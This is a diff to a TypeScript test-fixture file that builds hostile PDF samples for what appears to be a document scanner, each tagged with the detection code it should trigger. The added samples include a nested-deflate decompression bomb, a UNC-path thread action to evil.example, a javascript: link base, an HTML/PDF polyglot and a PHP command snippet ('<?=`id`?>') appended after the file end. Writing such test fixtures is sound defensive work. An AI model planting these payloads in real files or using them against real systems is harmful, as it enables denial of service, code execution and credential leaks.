@@ -1,3 +1,4 @@
+import { deflateSync } from 'node:zlib';
 import type { HostileFile } from './hostile-files.ts';
 import { type MadePdf, madePdf, pdfStream, pdfText, revisedPdf } from './made-pdf.ts';
 
@@ -8,6 +9,9 @@ const pdf = (what: string, code: string, made: MadePdf, verdict?: 'held'): Hosti
   code,
   ...(verdict ? { verdict } : {}),
 });
+
+/** Twenty million zeros. */
+const BOMB = deflateSync(Buffer.alloc(20_000_000));
 
 /** The same attack in the open and in a compressed stream of objects, where searching the bytes finds nothing. */
 const both = (what: string, code: string, made: MadePdf): readonly HostileFile[] => [
@@ -38,6 +42,12 @@ const actions = (): readonly HostileFile[] => [
   ...both('a form that is sent', 'acts-on-the-computer', action('/S /SubmitForm /F (https://evil.example)')),
   ...both('data that are loaded', 'acts-on-the-computer', action('/S /ImportData /F (a.fdf)')),
   ...both('another file that is opened', 'acts-on-the-computer', action('/S /GoToR /F (a.pdf) /D [0 /Fit]')),
+  ...both(
+    'an article in another file',
+    'acts-on-the-computer',
+    action('/S /Thread /F (\\\\evil.example\\a.pdf)'),
+  ),
+  ...both('what makes every link a script', 'dangerous-link', { catalog: '/URI << /Base (javascript:) >>' }),
   ...both('a web page that opens by itself', 'acts-by-itself', {
     catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>',
   }),
@@ -80,6 +90,12 @@ const disguises = (): readonly HostileFile[] => [
   pdf('a stream kept elsewhere', 'outside-content', {
     objects: [pdfStream('/F (http://evil.example/a)', '')],
   }),
+  pdf('a model in three dimensions', 'embedded-media', {
+    objects: [pdfStream('/Type /3D /Subtype /U3D', 'x')],
+  }),
+  pdf('a stream that blows up', 'could-not-be-inspected', {
+    objects: [pdfStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(BOMB).toString('latin1'))],
+  }),
   pdf('an encrypted PDF', 'encrypted', {
     trailer: '/Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (x) /P -4 >>',
   }),
@@ -96,6 +112,18 @@ const disguises = (): readonly HostileFile[] => [
     what: 'a page behind a PDF',
     name: 'a.pdf',
     bytes: Buffer.concat([madePdf(), Buffer.from('<html><script>alert(document.domain)</script></html>')]),
+    code: 'data-after-the-end',
+  },
+  {
+    what: 'a PDF that begins as a page',
+    name: 'a.pdf',
+    bytes: Buffer.concat([Buffer.from('%PDF-1.7\n%<html><script>1</script>\n'), madePdf().subarray(9)]),
+    code: 'two-formats',
+  },
+  {
+    what: 'a few words for a server behind a PDF',
+    name: 'a.pdf',
+    bytes: Buffer.concat([madePdf(), Buffer.from('<?=`id`?>')]),
     code: 'data-after-the-end',
   },
   { what: 'half a PDF', name: 'a.pdf', bytes: madePdf().subarray(0, 200), code: 'unreadable' },
@@ -143,6 +171,12 @@ const numbers = (): readonly HostileFile[] => {
         page: '/Annots [4 0 R]',
         objects: ['<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (AB987654\\(3\\)) >>'],
       },
+      'held',
+    ),
+    pdf(
+      'an identity number on a stamp',
+      'identity-number',
+      { objects: [pdfStream('/Subtype /Form', 'BT [(AB98) -2 (7654\\(3\\))] TJ ET')] },
       'held',
     ),
     pdf(
